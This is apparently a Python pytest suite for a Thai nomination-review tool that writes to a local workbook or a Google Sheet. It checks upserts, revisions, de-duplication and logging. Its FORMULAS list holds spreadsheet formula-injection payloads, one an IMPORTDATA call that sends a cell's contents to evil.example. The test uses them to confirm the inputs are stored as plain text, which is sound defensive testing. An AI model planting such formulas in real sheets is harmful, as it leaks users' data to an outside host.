"""One contract for every review backend: the local workbook and the Google Sheet (through real gspread)."""
from __future__ import annotations

import pytest

from sheets import (
    DISTRICTS_SHEET, LOG_SHEET, NOMINATION_HEADERS, NOMINATION_SHEET, WORKS_SHEET, DistrictRow, NominationRow,
    WorkRow, open_review_sheet,
)
from tests.sheet_backends import GoogleStaff, LocalStaff

FORMULAS = ['=IMPORTDATA("https://evil.example/?"&A2)', "+66 81 234 5678", "-1+2", "@SUM(A1:A9)"]


@pytest.fixture(params=["local", "google"])
def backend(request, config, google_sheet_config, google):
    if request.param == "local":
        sheet = open_review_sheet(config)
        staff = LocalStaff(config.review_workbook_path)
    else:
        sheet = open_review_sheet(google_sheet_config)
        staff = GoogleStaff(google, google_sheet_config.google_sheet_id)
    sheet.prepare()
    return sheet, staff


def nomination(number: int, *, revision: int = 1, works: int = 1, skills: str = "ใช้ Canva ทำสื่อ") -> NominationRow:
    return NominationRow(
        reference=f"CBI-2570-IT-{number:02d}", revision=revision, district=f"อำเภอที่ {number}",
        nominee=f"นางสาวทดสอบ {number}", position="นักวิชาการพัฒนาชุมชน", office="สำนักงาน", eligible="ใช่",
        skills=skills, submitted_by="เจ้าหน้าที่", submitted_at="1 มี.ค. 2570 เวลา 10:00 น.",
        works=tuple(WorkRow(n, "เว็บไซต์", f"ผลงาน {n} ฉบับ {revision}", "ผล", ("https://example.org/a",), ())
                    for n in range(1, works + 1)))


def test_prepare_makes_the_four_sheets_with_headers_and_changes_no_data_when_run_again(backend):
    sheet, staff = backend
    assert {NOMINATION_SHEET, WORKS_SHEET, DISTRICTS_SHEET, LOG_SHEET} <= set(staff.sheet_titles())
    frozen, validations = staff.frozen_and_validated(NOMINATION_SHEET)
    assert frozen == 1 and validations >= 1
    sheet.upsert_nominations([nomination(1)])
    staff.set(NOMINATION_SHEET, "CBI-2570-IT-01", "ความเห็นเจ้าหน้าที่", "ดีมาก")
    assert sheet.prepare() == ["ทุกแผ่นงานพร้อมอยู่แล้ว"]
    (row,) = staff.rows(NOMINATION_SHEET)
    assert row["ความเห็นเจ้าหน้าที่"] == "ดีมาก" and row["ผู้ได้รับการเสนอชื่อ"] == "นางสาวทดสอบ 1"


def test_new_nominations_are_added_with_a_pending_status(backend):
    sheet, staff = backend
    sheet.upsert_nominations([nomination(n, works=2) for n in (1, 2, 3)])
    rows = staff.rows(NOMINATION_SHEET)
    assert [r["เลขที่อ้างอิง"] for r in rows] == ["CBI-2570-IT-01", "CBI-2570-IT-02", "CBI-2570-IT-03"]
    assert {r["สถานะ"] for r in rows} == {"รอตรวจสอบ"}
    assert len(staff.rows(WORKS_SHEET)) == 6
    assert set(sheet.reviews()) == {"CBI-2570-IT-01", "CBI-2570-IT-02", "CBI-2570-IT-03"}


def test_an_update_finds_its_row_after_staff_sorted_and_inserted_rows(backend):
    sheet, staff = backend
    sheet.upsert_nominations([nomination(n) for n in (1, 2, 3)])
    staff.set(NOMINATION_SHEET, "CBI-2570-IT-02", "สถานะ", "ผ่าน")
    staff.set(NOMINATION_SHEET, "CBI-2570-IT-03", "สถานะ", "ขอแก้ไข")
    staff.set(NOMINATION_SHEET, "CBI-2570-IT-03", "ความเห็นเจ้าหน้าที่", "ขอลิงก์ที่เปิดได้")
    staff.sort(NOMINATION_SHEET, column=NOMINATION_HEADERS.index("ผู้ได้รับการเสนอชื่อ"))
    staff.insert_blank_row(NOMINATION_SHEET, at=2)

    sheet.upsert_nominations([nomination(3, revision=2, works=1)])
    rows = {r["เลขที่อ้างอิง"]: r for r in staff.rows(NOMINATION_SHEET) if r["เลขที่อ้างอิง"].startswith("CBI")}
    assert len(rows) == 3
    assert rows["CBI-2570-IT-03"]["ฉบับที่"] == "2"
    assert rows["CBI-2570-IT-03"]["สถานะ"] == "รอตรวจสอบ"  # a new revision needs a new look
    assert rows["CBI-2570-IT-03"]["ความเห็นเจ้าหน้าที่"] == "ขอลิงก์ที่เปิดได้"
    assert rows["CBI-2570-IT-02"]["สถานะ"] == "ผ่าน" and rows["CBI-2570-IT-02"]["ฉบับที่"] == "1"
    reviews = sheet.reviews()
    assert reviews["CBI-2570-IT-02"].status == "ผ่าน"


def test_the_same_rows_written_twice_are_not_doubled(backend):
    sheet, staff = backend
    batch = [nomination(1, works=3), nomination(2)]
    sheet.upsert_nominations(batch)
    sheet.upsert_nominations(batch)
    assert len(staff.rows(NOMINATION_SHEET)) == 2 and len(staff.rows(WORKS_SHEET)) == 4


def test_a_work_dropped_in_a_new_revision_is_marked_not_left_as_current(backend):
    sheet, staff = backend
    sheet.upsert_nominations([nomination(1, works=3)])
    sheet.upsert_nominations([nomination(1, revision=2, works=1)])
    works = staff.rows(WORKS_SHEET)
    titles = [w["ชื่อผลงาน"] for w in works]
    assert titles[0] == "ผลงาน 1 ฉบับ 2"
    assert titles[1:] == ["(ไม่มีในฉบับที่ 2)", "(ไม่มีในฉบับที่ 2)"]


@pytest.mark.parametrize("payload", FORMULAS)
def test_officer_text_that_looks_like_a_formula_lands_as_text(backend, payload):
    sheet, staff = backend
    sheet.upsert_nominations([nomination(1, skills=payload)])
    (row,) = staff.rows(NOMINATION_SHEET)
    assert row["ทักษะด้านไอที"] == payload
    assert staff.is_text(NOMINATION_SHEET, "CBI-2570-IT-01", "ทักษะด้านไอที")


def test_the_districts_table_is_rewritten_and_the_log_grows(backend):
    sheet, staff = backend
    districts = [DistrictRow(1, "เมืองชลบุรี", 2, "ส่งแล้ว", "CBI-2570-IT-01", "รอตรวจสอบ", "1 มี.ค. 2570"),
                 DistrictRow(2, "บ้านบึง", 0, "ยังไม่ส่ง", "", "", "1 มี.ค. 2570")]
    sheet.upsert_nominations([nomination(1)], districts, [("1 มี.ค. 2570 เวลา 10:00 น.", "เขียน 1 รายการ")])
    districts[1] = DistrictRow(2, "บ้านบึง", 1, "ยังไม่ส่ง", "", "", "1 มี.ค. 2570")
    sheet.upsert_nominations([], districts, [("1 มี.ค. 2570 เวลา 10:01 น.", "เขียน 0 รายการ")])
    assert [(r["อำเภอ"], r["เจ้าหน้าที่ที่ลงทะเบียน"]) for r in staff.rows(DISTRICTS_SHEET)] == [
        ("เมืองชลบุรี", "2"), ("บ้านบึง", "1")]
    assert [r["เหตุการณ์"] for r in staff.rows(LOG_SHEET)] == ["เขียน 1 รายการ", "เขียน 0 รายการ"]
